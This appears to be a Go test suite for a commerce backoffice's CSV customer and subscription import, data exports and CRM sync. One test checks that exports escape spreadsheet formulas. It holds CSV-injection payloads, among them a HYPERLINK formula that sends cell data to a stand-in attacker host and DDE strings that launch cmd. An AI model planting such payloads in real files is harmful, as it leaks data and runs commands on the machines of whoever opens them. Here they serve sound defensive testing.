package backoffice_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/fulfillhq/fulfill"
	"github.com/fulfillhq/fulfill/backoffice"
	"github.com/fulfillhq/fulfill/commerce"
	"github.com/fulfillhq/fulfill/internal/dbtest"
	"github.com/fulfillhq/fulfill/internal/testenv"
	"github.com/fulfillhq/fulfill/store"
)

func TestMain(m *testing.M) { dbtest.Main(m) }

// today is the simulated day every test runs on.
var today = fulfill.NewDate(2026, time.June, 1)

func newService(t testing.TB, url string) *commerce.Service {
	t.Helper()
	return testenv.New(t, url, today.Time().Add(9*time.Hour), "US").Svc
}

// sample is a generated combined customers-and-subscriptions file.
type sample struct {
	csv         []byte
	goodEmails  []string
	selfManaged int         // good rows on a self-managed plan that has not expired: each gets a license
	bad         map[int]bad // line → why it must be rejected
}

type bad struct{ field, reason string }

const sampleHeader = "email,name,company,address,city,postal_code,country,tax_id,currency,external_id,plan,seats,starts_on,ends_on,auto_renew,state,seat_reconciliation"

// genSample writes n rows; every 200th row (50 in 10,000) is broken in one
// of ten ways, each with the reason the import must give.
func genSample(n int) *sample {
	s := &sample{bad: map[int]bad{}}
	var b bytes.Buffer
	b.WriteString(sampleHeader + "\n")
	plans := []string{"sm-premium", "saas-premium", "sm-ultimate", "saas-ultimate"}
	countries := []string{"US", "DE", "GB", "FR"}
	for i := 0; i < n; i++ {
		line := i + 2
		email := fmt.Sprintf("buyer%05d@example.com", i)
		name, country, plan, seats := fmt.Sprintf("Buyer %d", i), countries[i%4], plans[i%4], fmt.Sprint(5+i%500)
		start := today.AddDays(-(i % 300))
		starts, ends, autoRenew, state := start.String(), "", "true", "active"
		if i%7 == 0 {
			autoRenew, state = "false", "canceled"
		}
		if i%200 == 199 {
			switch (i / 200) % 10 {
			case 0:
				email, s.bad[line] = "buyer-at-example.com", bad{"email", `"buyer-at-example.com" is not an email address.`}
			case 1:
				name, s.bad[line] = "", bad{"name", "A name is required."}
			case 2:
				country, s.bad[line] = "USA", bad{"country", `"USA" is not an ISO 3166 alpha-2 country code.`}
			case 3:
				plan, s.bad[line] = "sm-gold", bad{"plan", `No plan "sm-gold" in the catalog.`}
			case 4:
				seats, s.bad[line] = "0", bad{"seats", "Seats must be at least 1."}
			case 5:
				seats, s.bad[line] = "ten", bad{"seats", `"ten" is not a whole number.`}
			case 6:
				ends, s.bad[line] = start.AddDays(-1).String(), bad{"ends_on", fmt.Sprintf("ends_on %s is not after starts_on %s.", start.AddDays(-1), start)}
			case 7:
				email, s.bad[line] = fmt.Sprintf("buyer%05d@example.com", i-1), bad{"email", fmt.Sprintf("buyer%05d@example.com is also on line %d.", i-1, line-1)}
			case 8:
				starts, s.bad[line] = "2026-13-01", bad{"starts_on", `"2026-13-01" is not a date (YYYY-MM-DD).`}
			case 9:
				state, s.bad[line] = "paused", bad{"state", `"paused" is not a state: want active, past_due, canceled or expired.`}
			}
		}
		fmt.Fprintf(&b, "%s,%s,Company %d,\"%d Main St, Suite %d\",Springfield,%d,%s,,,ext-%05d,%s,%s,%s,%s,%s,%s,false\n",
			email, name, i, i, i%10, 10000+i, country, i, plan, seats, starts, ends, autoRenew, state)
		if _, isBad := s.bad[line]; !isBad {
			s.goodEmails = append(s.goodEmails, email)
			if strings.HasPrefix(plan, "sm-") {
				s.selfManaged++
			}
		}
	}
	s.csv = b.Bytes()
	return s
}

func counts(t *testing.T, db *store.DB) map[string]int {
	t.Helper()
	c, err := db.TableCounts(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// Acceptance 4: 10,000 customers with their subscriptions, 50 of them bad.
func TestImportTenThousand(t *testing.T) {
	t.Parallel()
	dbtest.ForEachParallel(t, func(t *testing.T, url string) {
		ctx := context.Background()
		svc := newService(t, url)
		s := genSample(10_000)
		before := counts(t, svc.DB)

		rep, err := svc.Import(ctx, commerce.ImportCustomers, bytes.NewReader(s.csv), commerce.ImportOptions{})
		if err != nil {
			t.Fatal(err)
		}
		if rep.Rows != 10_000 || rep.Imported != 9_950 || rep.Customers != 9_950 || rep.Subscriptions != 9_950 || rep.Licenses != s.selfManaged {
			t.Fatalf("report = rows %d, imported %d, customers %d, subscriptions %d, licenses %d; want 10000, 9950, 9950, 9950, %d",
				rep.Rows, rep.Imported, rep.Customers, rep.Subscriptions, rep.Licenses, s.selfManaged)
		}
		if len(rep.Rejected) != 50 {
			t.Fatalf("%d rejected rows, want 50", len(rep.Rejected))
		}
		for _, r := range rep.Rejected {
			want, ok := s.bad[r.Line]
			if !ok {
				t.Errorf("rejected a good row: %s", r)
				continue
			}
			if r.Field != want.field || r.Reason != want.reason {
				t.Errorf("%s\nwant line %d: %s: %s", r, r.Line, want.field, want.reason)
			}
		}
		if got := rep.Rejected[0].String(); got != `line 201: email: "buyer-at-example.com" is not an email address.` {
			t.Errorf("first rejection = %q", got)
		}

		after := counts(t, svc.DB)
		for table, want := range map[string]int{"customers": 9_950, "subscriptions": 9_950, "subscription_versions": 9_950,
			"licenses": s.selfManaged, "invoices": 0, "payments": 0, "emails": 0, "activation_codes": 0} {
			if got := after[table] - before[table]; got != want {
				t.Errorf("%s: %d new rows, want %d", table, got, want)
			}
		}

		// The first row: a self-managed subscription as it stood, with its
		// "import" version and a license.
		var first *fulfill.Subscription
		err = svc.DB.EachSubscription(ctx, func(sub *fulfill.Subscription, email string) error {
			if email == "buyer00000@example.com" {
				first = sub
			}
			return nil
		})
		if err != nil || first == nil {
			t.Fatalf("first subscription: %v, %v", first, err)
		}
		if first.Plan != "sm-premium" || first.Seats != 5 || first.StartsOn != today || first.EndsOn != fulfill.NewDate(2027, time.June, 1) ||
			first.AutoRenew || first.State != fulfill.StateCanceled || first.UnitAmount != 34800 || first.Currency != "USD" ||
			first.PaymentMethod != commerce.PayByInvoice || first.LicenseID == nil {
			t.Errorf("first subscription = %+v", first)
		}
		vs, err := svc.DB.SubscriptionVersions(ctx, first.ID)
		if err != nil || len(vs) != 1 || vs[0].Action != "import" || vs[0].InvoiceID != nil {
			t.Errorf("versions = %+v, %v; want one \"import\" without invoice", vs, err)
		}

		// Running the same file again rejects every row and changes nothing.
		rep2, err := svc.Import(ctx, commerce.ImportCustomers, bytes.NewReader(s.csv), commerce.ImportOptions{})
		if err != nil {
			t.Fatal(err)
		}
		if rep2.Imported != 0 || len(rep2.Rejected) != 10_000 {
			t.Errorf("second run: imported %d, rejected %d; want 0, 10000", rep2.Imported, len(rep2.Rejected))
		}
		if got, want := rep2.Rejected[0].String(), "line 2: email: A customer with email buyer00000@example.com already exists."; got != want {
			t.Errorf("second run, first rejection = %q, want %q", got, want)
		}
		if again := counts(t, svc.DB); !equalCounts(again, after) {
			t.Errorf("second run changed the database:\n%v\n%v", after, again)
		}

		// The export lists exactly the imported customers, in import columns.
		var out bytes.Buffer
		if err := backoffice.Export(ctx, svc.DB, "customers", &out); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&out).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(recs) != 9_951 || strings.Join(recs[0][:10], ",") != "email,name,company,address,city,postal_code,country,tax_id,currency,external_id" {
			t.Fatalf("export: %d records, header %v", len(recs), recs[0])
		}
		var emails []string
		for _, r := range recs[1:] {
			emails = append(emails, r[0])
		}
		slices.Sort(emails)
		if !slices.Equal(emails, s.goodEmails) {
			t.Errorf("exported emails differ from the imported ones")
		}
		if got := strings.Join(recs[1][:10], "|"); got != "buyer00000@example.com|Buyer 0|Company 0|0 Main St, Suite 0|Springfield|10000|US||USD|ext-00000" {
			t.Errorf("first exported customer = %s", got)
		}
	})
}

func equalCounts(a, b map[string]int) bool {
	if len(a) != len(b) {
		return false
	}
	for k, v := range a {
		if b[k] != v {
			return false
		}
	}
	return true
}

// A failure midway (here the context is canceled at row 5,000) leaves
// nothing imported; so does --all-or-nothing with a bad row.
func TestImportIsAllOrNothingOnFailure(t *testing.T) {
	t.Parallel()
	dbtest.ForEachParallel(t, func(t *testing.T, url string) {
		svc := newService(t, url)
		s := genSample(10_000)
		before := counts(t, svc.DB)

		ctx, cancel := context.WithCancel(context.Background())
		defer cancel()
		_, err := svc.Import(ctx, commerce.ImportCustomers, bytes.NewReader(s.csv), commerce.ImportOptions{
			Progress: func(done, total int) {
				if done == 5_000 {
					cancel()
				}
			}})
		if err == nil {
			t.Fatal("import with a canceled context succeeded")
		}
		if after := counts(t, svc.DB); !equalCounts(after, before) {
			t.Errorf("a failed import left rows behind:\n%v\n%v", before, after)
		}

		rep, err := svc.Import(context.Background(), commerce.ImportCustomers, bytes.NewReader(s.csv),
			commerce.ImportOptions{AllOrNothing: true})
		if err != nil {
			t.Fatal(err)
		}
		if rep.Imported != 0 || len(rep.Rejected) != 50 {
			t.Errorf("all-or-nothing: imported %d, rejected %d; want 0, 50", rep.Imported, len(rep.Rejected))
		}
		if after := counts(t, svc.DB); !equalCounts(after, before) {
			t.Errorf("all-or-nothing import with rejected rows wrote:\n%v\n%v", before, after)
		}
	})
}

// Customers first, then their subscriptions named by email or external id.
func TestImportSubscriptionsFile(t *testing.T) {
	t.Parallel()
	dbtest.ForEachParallel(t, func(t *testing.T, url string) {
		ctx := context.Background()
		svc := newService(t, url)
		customers := "email,name,country,currency,external_id\n" +
			"ada@example.com,Ada,GB,,crm-1\n" +
			"bob@example.de,Bob,DE,,crm-2\n" +
			"carol@example.com,Carol,US,,\n"
		rep, err := svc.Import(ctx, commerce.ImportCustomers, strings.NewReader(customers), commerce.ImportOptions{})
		if err != nil || rep.Customers != 3 || rep.Subscriptions != 0 || len(rep.Rejected) != 0 {
			t.Fatalf("customers: %+v, %v", rep, err)
		}
		subs := "customer_email,external_id,plan,seats,starts_on,ends_on,auto_renew,state,seat_reconciliation,namespace\n" +
			"ada@example.com,,sm-premium,10,2026-01-15,,,,true,\n" + // 2: ok, self-managed: licensed
			",crm-2,saas-premium,3,2025-09-01,2026-09-01,no,canceled,,bob-group\n" + // 3: ok, SaaS in EUR
			"carol@example.com,,sm-ultimate,1000001,2026-01-01,,,,,\n" + // 4: too many seats
			"dan@example.com,,sm-premium,1,2026-01-01,,,,,\n" + // 5: no such customer
			",crm-9,sm-premium,1,2026-01-01,,,,,\n" + // 6: no such external id
			"carol@example.com,,sm-premium,1,2024-01-01,2025-01-01,,active,,\n" + // 7: ended but active
			"carol@example.com,,sm-premium,1,2024-01-01,2025-01-01,false,expired,,\n" + // 8: ok, expired: no license
			"ADA@example.com,,sm-premium,10,2026-01-15,,,,,\n" + // 9: same as line 2
			"carol@example.com,,sm-premium,2,2026-02-01,,true,canceled,,\n" + // 10: canceled but auto-renewing
			"carol@example.com,,sm-premium,2,2026-02-01,,,,,carol-ns\n" // 11: namespace on a self-managed plan
		rep, err = svc.Import(ctx, commerce.ImportSubscriptions, strings.NewReader(subs), commerce.ImportOptions{})
		if err != nil {
			t.Fatal(err)
		}
		got := rejectedLines(rep)
		want := []string{
			"line 4: seats: Seats must be at most 1000000.",
			"line 5: customer_email: No customer with email dan@example.com.",
			`line 6: external_id: No customer was imported with external id "crm-9".`,
			"line 7: ends_on: The term ended on 2025-01-01; import the subscription as expired, or with its current term.",
			"line 9: plan: The same subscription (sm-premium from 2026-01-15) is also on line 2.",
			"line 10: auto_renew: A canceled subscription does not renew automatically.",
			`line 11: namespace: Plan "sm-premium" is self-managed; only SaaS subscriptions have a namespace.`,
		}
		if !slices.Equal(got, want) {
			t.Errorf("rejected:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
		}
		if rep.Subscriptions != 3 || rep.Licenses != 1 {
			t.Errorf("imported %d subscriptions, %d licenses; want 3, 1", rep.Subscriptions, rep.Licenses)
		}

		var out bytes.Buffer
		if err := backoffice.Export(ctx, svc.DB, "subscriptions", &out); err != nil {
			t.Fatal(err)
		}
		recs, _ := csv.NewReader(&out).ReadAll()
		var rows []string
		for _, r := range recs {
			rows = append(rows, strings.Join(append(r[:9:9], r[14], r[15]), ","))
		}
		wantRows := []string{
			"customer_email,plan,seats,starts_on,ends_on,auto_renew,state,seat_reconciliation,namespace,currency,unit_amount",
			"ada@example.com,sm-premium,10,2026-01-15,2027-01-15,true,active,true,,USD,34800",
			"bob@example.de,saas-premium,3,2025-09-01,2026-09-01,false,canceled,false,bob-group,EUR,32400",
			"carol@example.com,sm-premium,1,2024-01-01,2025-01-01,false,expired,false,,USD,34800",
		}
		if !slices.Equal(rows, wantRows) {
			t.Errorf("subscriptions export:\n%s\nwant:\n%s", strings.Join(rows, "\n"), strings.Join(wantRows, "\n"))
		}
	})
}

// Invoices and payments export money as minor units beside the currency.
func TestExportInvoicesAndPayments(t *testing.T) {
	t.Parallel()
	dbtest.ForEachParallel(t, func(t *testing.T, url string) {
		ctx := context.Background()
		svc := newService(t, url)
		c, err := svc.CreateCustomer(ctx, commerce.CustomerInput{Email: "erin@example.com", Name: "Erin", Country: "US"})
		if err != nil {
			t.Fatal(err)
		}
		res, err := svc.Purchase(ctx, "test", commerce.PurchaseInput{CustomerID: c.ID, Plan: "sm-premium", Seats: 3, PaymentMethod: "pm_card_visa"})
		if err != nil {
			t.Fatal(err)
		}
		for name, want := range map[string]string{
			"invoices": fmt.Sprintf("%s,%s,%s,%s,paid,USD,104400,0,104400,104400,0,0,0,2026-06-01,2027-06-01,2026-06-01,2026-06-01",
				res.Invoice.ID, res.Invoice.Number, c.ID, res.Subscription.ID),
			"payments": fmt.Sprintf("%s,%s,test", res.Invoice.ID, c.ID),
		} {
			var out bytes.Buffer
			if err := backoffice.Export(ctx, svc.DB, name, &out); err != nil {
				t.Fatal(err)
			}
			recs, err := csv.NewReader(&out).ReadAll()
			if err != nil || len(recs) != 2 {
				t.Fatalf("%s: %d records, %v", name, len(recs), err)
			}
			row := strings.Join(recs[1], ",")
			if name == "payments" {
				row = strings.Join(recs[1][1:4], ",")
				if recs[1][5] != "104400" || recs[1][6] != "USD" || recs[1][7] != "succeeded" {
					t.Errorf("payment = %v", recs[1])
				}
			}
			if !strings.HasPrefix(row, want) {
				t.Errorf("%s row = %s\nwant prefix %s", name, row, want)
			}
		}
		if err := backoffice.Export(ctx, svc.DB, "ledger", &bytes.Buffer{}); fulfill.ErrorCode(err) != fulfill.ENotFound {
			t.Errorf("unknown export: %v, want not_found", err)
		}
	})
}

// The CSV-file CRM gets every event once, however often it is synced.
func TestCRMFileSync(t *testing.T) {
	t.Parallel()
	dbtest.ForEachParallel(t, func(t *testing.T, url string) {
		ctx := context.Background()
		svc := newService(t, url)
		for _, e := range []string{"a@example.com", "b@example.com"} {
			if _, err := svc.CreateCustomer(ctx, commerce.CustomerInput{Email: e, Name: "X", Country: "US"}); err != nil {
				t.Fatal(err)
			}
		}
		path := filepath.Join(t.TempDir(), "crm.csv")
		for run, want := range []int{2, 2} {
			n, err := backoffice.Sync(ctx, svc.DB, &backoffice.CSVFile{Path: path}, time.Time{})
			if err != nil || n != want {
				t.Fatalf("sync %d: %d events, %v", run, n, err)
			}
		}
		f, _ := os.ReadFile(path)
		recs, err := csv.NewReader(bytes.NewReader(f)).ReadAll()
		if err != nil || len(recs) != 3 || recs[1][1] != "customer.created" || recs[2][1] != "customer.created" {
			t.Fatalf("crm file: %v, %v", recs, err)
		}
		if !strings.Contains(recs[1][6], `"a@example.com"`) || !strings.Contains(recs[2][6], `"b@example.com"`) {
			t.Errorf("events out of order: %v", recs)
		}
	})
}

// BenchmarkImport10k imports acceptance 4's file: 10,000 rows, 50 bad.
// It reports rows/s and s/import; run it with
//
//	go test ./backoffice -run '^$' -bench Import -benchtime 3x
func BenchmarkImport10k(b *testing.B) {
	s := genSample(10_000)
	for _, engine := range []struct{ name string }{{"sqlite"}, {"postgres"}} {
		b.Run(engine.name, func(b *testing.B) {
			var total time.Duration
			for i := 0; i < b.N; i++ {
				b.StopTimer()
				url := dbtest.SQLiteURL(b)
				if engine.name == "postgres" {
					url = dbtest.PostgresURL(b)
				}
				svc := newService(b, url)
				b.StartTimer()
				start := time.Now()
				rep, err := svc.Import(context.Background(), commerce.ImportCustomers, bytes.NewReader(s.csv), commerce.ImportOptions{})
				total += time.Since(start)
				if err != nil || rep.Imported != 9_950 {
					b.Fatalf("%v, %+v", err, rep)
				}
			}
			b.ReportMetric(float64(b.N*10_000)/total.Seconds(), "rows/s")
			b.ReportMetric(total.Seconds()/float64(b.N), "s/import")
		})
	}
}

// CSV injection (OWASP): text cells that a spreadsheet would evaluate come
// out with a leading quote, numbers stay numbers, and the export imports
// back unchanged.
func TestExportEscapesFormulaCells(t *testing.T) {
	dbtest.ForEach(t, func(t *testing.T, url string) {
		t.Parallel()
		ctx := context.Background()
		svc := newService(t, url)
		in := commerce.CustomerInput{Email: "eve@example.com", Name: `=HYPERLINK("http://evil.example/?"&A1,"Click")`,
			Company: "@SUM(1+9)*cmd|' /C calc'!A0", Address: "-2+3+cmd|' /C calc'!A0", City: "+Springfield", Country: "US"}
		if _, err := svc.CreateCustomer(ctx, in); err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		if err := backoffice.Export(ctx, svc.DB, "customers", &buf); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
		if err != nil || len(recs) != 2 {
			t.Fatalf("export: %v, %v", recs, err)
		}
		row := map[string]string{}
		for i, col := range recs[0] {
			row[col] = recs[1][i]
		}
		for col, want := range map[string]string{"email": in.Email, "name": "'" + in.Name, "company": "'" + in.Company,
			"address": "'" + in.Address, "city": "'" + in.City, "country": "US", "credit_balance": "0"} {
			if row[col] != want {
				t.Errorf("%s = %q, want %q", col, row[col], want)
			}
		}

		// The export's first ten columns are an import file: it imports
		// back as it was.
		var file bytes.Buffer
		cw := csv.NewWriter(&file)
		for _, r := range recs {
			cw.Write(r[:10])
		}
		cw.Flush()
		other := newService(t, dbtest.SQLiteURL(t))
		rep, err := other.Import(ctx, commerce.ImportCustomers, &file, commerce.ImportOptions{})
		if err != nil || len(rep.Rejected) != 0 {
			t.Fatalf("import of the export: %+v, %v", rep, err)
		}
		var back bytes.Buffer
		if err := backoffice.Export(ctx, other.DB, "customers", &back); err != nil {
			t.Fatal(err)
		}
		brecs, err := csv.NewReader(&back).ReadAll()
		if err != nil || len(brecs) != 2 {
			t.Fatalf("export after import: %v, %v", brecs, err)
		}
		for i, col := range recs[0] {
			if col == "email" || col == "name" || col == "company" || col == "address" || col == "city" {
				if brecs[1][i] != recs[1][i] {
					t.Errorf("%s after a round trip = %q, want %q", col, brecs[1][i], recs[1][i])
				}
			}
		}

		// The CRM file uses the same writer.
		path := filepath.Join(t.TempDir(), "crm.csv")
		f := &backoffice.CSVFile{Path: path}
		if err := f.Record(ctx, &store.Event{ID: "evt_x", Type: "customer.created", Version: "1", SubjectID: "=1+2", Data: []byte(`{}`)}); err != nil {
			t.Fatal(err)
		}
		b, _ := os.ReadFile(path)
		crm, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
		if err != nil || len(crm) != 2 || crm[1][5] != "'=1+2" {
			t.Fatalf("crm file: %q, %v", crm, err)
		}
	})
}

// Issue 9 item 5: a CSV field with a NUL or invalid UTF-8 rejects its row
// (PostgreSQL used to fail the whole import); lengths count characters.
func TestImportRejectsBadBytes(t *testing.T) {
	t.Parallel()
	dbtest.ForEach(t, func(t *testing.T, url string) {
		t.Parallel()
		svc := newService(t, url)
		long := strings.Repeat("é", 200)
		file := "email,name,company,country\n" +
			"ada@example.com,Ada\x00,,GB\n" + // 2: NUL
			"bob@example.com,Bob,Bob \xffGmbH,DE\n" + // 3: invalid UTF-8
			"eve@example.com," + long + "é,,US\n" + // 4: 201 characters
			"carol@example.com," + long + ",,US\n" // 5: ok, 200 characters
		rep, err := svc.Import(context.Background(), commerce.ImportCustomers, strings.NewReader(file), commerce.ImportOptions{})
		if err != nil {
			t.Fatal(err)
		}
		got := rejectedLines(rep)
		want := []string{
			"line 2: name: name contains a NUL character, which is not allowed.",
			"line 3: company: company is not valid UTF-8 text.",
			"line 4: name: At most 200 characters.",
		}
		if rep.Customers != 1 || strings.Join(got, "\n") != strings.Join(want, "\n") {
			t.Fatalf("imported %d, rejected:\n%s\nwant 1 and:\n%s", rep.Customers, strings.Join(got, "\n"), strings.Join(want, "\n"))
		}
	})
}

// rejectedLines are an import's rejections as printed ("line N: field: reason").
func rejectedLines(rep *commerce.ImportReport) []string {
	var out []string
	for _, r := range rep.Rejected {
		out = append(out, r.String())
	}
	return out
}
